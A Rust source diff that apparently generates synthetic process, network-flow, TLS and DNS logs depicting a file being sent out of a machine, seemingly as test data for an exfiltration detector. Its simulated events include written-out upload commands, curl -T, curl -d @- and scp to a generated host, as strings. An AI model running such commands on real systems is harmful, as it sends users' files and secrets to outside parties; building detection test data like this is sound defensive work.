@@ -1,0 +1,95 @@
+//! The last act: somebody sends.
+
+use super::cast::{CURL, LAUNCHD, SCP};
+use super::play::Play;
+use super::scene::{SECOND, Scene, delay};
+use super::theft::{Break, Method, Trace};
+
+impl Play<'_> {
+    /// Brings the sender to the point of sending.
+    pub(crate) fn sender(&mut self, file: &str, collector: Option<u32>) -> u32 {
+        self.now += self.plan.delays[1];
+        let place = self.plan.place;
+        let named = self.plan.trace == Trace::Named;
+        let host = if named { place.name } else { "up" };
+        let sender = self.plan.sender;
+        let argv = match sender {
+            CURL if named => format!("curl -T \"{file}\" https://{host}/up"),
+            CURL => format!("curl -K /private/tmp/conf -T \"{file}\""),
+            SCP => format!("scp \"{file}\" ana@{host}:/srv/"),
+            _ => format!("agent --send {host}"),
+        };
+        match (self.plan.method, collector) {
+            _ if self.plan.broken == Some(Break::Stranger) => {
+                let parent = self.scene.there_is(self.now, "launchd", 0, LAUNCHD);
+                self.scene.spawn(self.now, parent, CURL, &format!("curl -d x https://{host}/"))
+            }
+            (Method::Direct | Method::PackAndSend | Method::Secret, Some(pid)) => pid,
+            (Method::Child, Some(pid)) => {
+                let child = self.scene.fork(self.now, pid);
+                if self.random.chance(60) {
+                    self.scene.exec(self.now + SECOND / 100, child, CURL, &format!("curl -d @- https://{host}/up"));
+                }
+                child
+            }
+            (Method::Piped, _) => self.scene.spawn(self.now, self.shell, CURL, &format!("curl -T - https://{host}/up")),
+            (Method::Become, Some(pid)) => {
+                self.scene.exec(self.now, pid, sender, &argv);
+                self.read_by_sender(pid, file);
+                pid
+            }
+            _ => {
+                let pid = self.scene.spawn(self.now, self.shell, sender, &argv);
+                self.read_by_sender(pid, file);
+                pid
+            }
+        }
+    }
+
+    fn read_by_sender(&mut self, pid: u32, file: &str) {
+        self.now += SECOND / 10;
+        self.scene.say(self.now, &format!("read {pid} \"{file}\" size={}", self.plan.size));
+    }
+
+    /// The flow, and what names it.
+    pub(crate) fn send(&mut self, pid: u32, file: &str, away: &mut Scene) {
+        let plan = self.plan;
+        let (place, size) = (plan.place, plan.size);
+        let start = (self.now + plan.flow_start).max(1);
+        let end = start + plan.flow_length;
+        let uid = self.scene.uid();
+        let port = self.random.pick(&[443, 443, 443, 22, 8443, 80, 465]);
+        let (near, far) = (format!("10.0.0.5:{}", 50_000 + self.random.below(3)), format!("{}:{port}", place.address));
+        // The two clocks differ: a process connects once it is there.
+        let connects = start.max(self.now);
+        match plan.trace {
+            Trace::Exact => self.scene.say(connects, &format!("connect {pid} tcp {near} -> {far}")),
+            Trace::Remote => self.scene.say(connects, &format!("connect {pid} tcp -> {far}")),
+            Trace::Named | Trace::Mute => {}
+        }
+        let leaves = end.max(connects) + delay(self.random);
+        if self.random.chance(70) {
+            self.scene.say(leaves, &format!("exit {pid}"));
+        }
+        let matches = matches!(self.random.below(3), 0) && !file.is_empty();
+        let per_mille = if matches { self.random.pick(&[969, 970, 1_000, 1_100, 1_101, 1_330, 1_450]) } else { 3_000 };
+        let mut flow = format!("flow {uid} {near} -> {far} tcp for {}s", plan.flow_length / SECOND);
+        if self.random.chance(85) {
+            flow.push_str(&format!(" out={} in={}", size * per_mille / 1_000, self.random.pick(&[0, 900, 20_000])));
+        }
+        let scene = if plan.broken == Some(Break::OtherHost) { away } else { &mut *self.scene };
+        let handshake = self.random.chance(80);
+        scene.say(start, &flow);
+        if handshake {
+            let (own, validated) = (self.random.chance(15), self.random.pick(&["", "validated=yes", "validated=no"]));
+            let sni = if self.random.chance(80) { format!("sni={}", place.name) } else { String::new() };
+            let issuer = if own { format!("CN={}", place.name) } else { "CN=R3".to_owned() };
+            scene.say(start, &format!("tls {uid} {sni} established cert=F{uid} {validated}"));
+            scene.say(start, &format!("cert F{uid} subject=CN={} issuer={issuer}", place.name));
+        }
+        if self.random.chance(70) {
+            let before = self.random.pick(&[0, 1, 50, 599, 601]) * SECOND;
+            scene.say((start - before).max(0), &format!("dns 10.0.0.5 {} -> {} ttl=60", place.name, place.address));
+        }
+    }
+}
